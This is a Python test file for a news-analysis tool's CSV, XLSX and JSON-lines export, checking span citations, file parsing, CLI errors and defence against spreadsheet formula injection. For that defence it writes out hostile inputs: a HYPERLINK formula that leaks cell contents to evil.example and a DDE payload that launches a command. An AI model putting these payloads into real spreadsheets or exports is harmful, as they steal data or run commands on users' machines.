"""Exports: CSV, XLSX and JSON lines that open, cite their spans, and never run article text."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from report_samples import sample_report, store_report
from storyweave.cli import app
from storyweave.export import TABLES, export, safe_cell, tables

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _by_name(report: dict[str, Any]) -> dict[str, Any]:
    return {t.name: t for t in tables(report)}


def _check_citations(report: dict[str, Any], columns: tuple[str, ...], rows: list[tuple[Any, ...]]) -> None:
    """Every row's (article, start, end) is a real span of that article."""
    texts = {a["id"]: a["text"] for a in report["articles"]}
    a, s, e = columns.index("article"), columns.index("start"), columns.index("end")
    for row in rows:
        assert row[a] in texts
        assert 0 <= int(row[s]) <= int(row[e]) <= len(texts[row[a]])
        if "words" in columns:
            assert texts[row[a]][int(row[s]) : int(row[e])] == row[columns.index("words")]


def test_tables_cover_every_section_and_cite_article_offsets() -> None:
    report = sample_report()
    found = _by_name(report)
    assert tuple(found) == TABLES
    for name in TABLES:
        assert found[name].rows, name
        _check_citations(report, found[name].columns, list(found[name].rows))


def test_claims_have_one_column_per_outlet() -> None:
    report = sample_report()
    claims = _by_name(report)["claims"]
    outlets = sorted({a["outlet"] for a in report["articles"]})
    assert all(o in claims.columns for o in outlets)
    contested = next(c for c in report["claims"] if c["contradicted_by"])
    row = dict(zip(claims.columns, next(r for r in claims.rows if r[0] == contested["id"]), strict=True))
    span = contested["contradicted_by"][0]
    outlet = next(a["outlet"] for a in report["articles"] if a["id"] == span["article"])
    assert f"contradicts ({span['article']}:{span['start']}-{span['end']})" in row[outlet]


def test_csv_files_parse_back_with_the_csv_module(tmp_path: Path) -> None:
    report = sample_report()
    paths = export(report, "csv", tmp_path / "out")
    assert sorted(p.name for p in paths) == sorted(f"{t}.csv" for t in TABLES)
    for path in paths:
        with path.open(encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        table = _by_name(report)[path.stem]
        assert tuple(rows[0]) == table.columns
        assert len(rows) - 1 == len(table.rows)
        _check_citations(report, table.columns, [tuple(r) for r in rows[1:]])


def test_xlsx_opens_with_openpyxl_with_a_sheet_per_table(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    report = sample_report()
    (path,) = export(report, "xlsx", tmp_path / "findings.xlsx")
    book = load_workbook(path, read_only=True)
    assert book.sheetnames == list(TABLES)
    for name in TABLES:
        rows = list(book[name].iter_rows(values_only=True))
        table = _by_name(report)[name]
        assert rows[0] == table.columns
        assert len(rows) - 1 == len(table.rows)
        _check_citations(report, table.columns, rows[1:])
        starts = [r[table.columns.index("start")] for r in rows[1:]]
        assert all(isinstance(s, int) for s in starts)  # offsets stay numbers


def test_jsonl_has_one_object_per_row(tmp_path: Path) -> None:
    report = sample_report()
    (path,) = export(report, "jsonl", tmp_path / "findings.jsonl")
    records = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert {r["table"] for r in records} == set(TABLES)
    assert len(records) == sum(len(t.rows) for t in tables(report))


def _hostile_report() -> dict[str, Any]:
    """The sample with a quote and an entity name that a spreadsheet would run as formulas."""
    report = sample_report()
    quote = report["quotes"][0]
    article = next(a for a in report["articles"] if a["id"] == quote["span"]["article"])
    start = len(article["text"]) + 1
    article["text"] += "\n" + HOSTILE
    quote["span"] = {"article": article["id"], "start": start, "end": start + len(HOSTILE), "text": HOSTILE}
    report["entities"][0]["name"] = "+cmd|' /C calc'!A0"
    report["entities"][0]["aliases"] = ["@SUM(1+1)", "-2+3"]
    return report


def test_formula_text_is_inert_in_csv_and_xlsx(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    report = _hostile_report()
    export(report, "csv", tmp_path / "csv")
    cells = [
        cell
        for path in (tmp_path / "csv").glob("*.csv")
        for row in csv.reader(path.open(encoding="utf-8-sig", newline=""))
        for cell in row
    ]
    assert f"'{HOSTILE}" in cells
    assert "'+cmd|' /C calc'!A0" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    (path,) = export(report, "xlsx", tmp_path / "x.xlsx")
    book = load_workbook(path)  # not read-only: cell types are checked
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert f"'{HOSTILE}" in values
    # JSON lines keep the words as written
    (jsonl,) = export(report, "jsonl", tmp_path / "x.jsonl")
    assert HOSTILE in {json.loads(line).get("words") for line in jsonl.read_text(encoding="utf-8").splitlines()}


@given(st.text(max_size=40))
@settings(max_examples=300, deadline=None)
def test_safe_cell_never_leaves_a_formula_start(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (text, "'" + text)


def test_xlsx_drops_characters_xml_cannot_hold(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    report = sample_report()
    report["entities"][0]["name"] = "Valley\x0bCourier\x01"
    (path,) = export(report, "xlsx", tmp_path / "x.xlsx")
    names = [r[1] for r in load_workbook(path, read_only=True)["entities"].iter_rows(values_only=True)]
    assert "ValleyCourier" in names


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "jsonl"])
def test_cli_exports_a_stored_run_and_a_report_file(tmp_path: Path, fmt: str) -> None:
    report = sample_report()
    run_id = store_report(tmp_path / "news.db", report)
    (tmp_path / "report.json").write_text(json.dumps(report), encoding="utf-8")
    runner = CliRunner()
    target = tmp_path / ("from-db" if fmt == "csv" else f"from-db.{fmt}")
    done = runner.invoke(
        app, ["export", "--db", str(tmp_path / "news.db"), "--run", str(run_id), "--format", fmt, "--out", str(target)]
    )
    assert done.exit_code == 0, done.output
    assert all(Path(p).exists() for p in done.stdout.split())
    again = runner.invoke(app, ["export", str(tmp_path / "report.json"), "--format", fmt, "--out", str(tmp_path / "f")])
    assert again.exit_code == 0, again.output


def test_cli_export_errors_are_one_line(tmp_path: Path) -> None:
    runner = CliRunner()
    bad = tmp_path / "bad.json"
    bad.write_text("{not json", encoding="utf-8")
    for args in (
        ["export", str(bad)],
        ["export", "--db", str(tmp_path / "none.db"), "--run", "4"],
        ["export", str(bad), "--format", "pdf"],
        ["export"],
    ):
        done = runner.invoke(app, args)
        assert done.exit_code == 1, args
        lines = [line for line in done.stderr.splitlines() if line.strip()]
        assert len(lines) == 1, (args, done.stderr)
        assert lines[0].startswith("error: ")
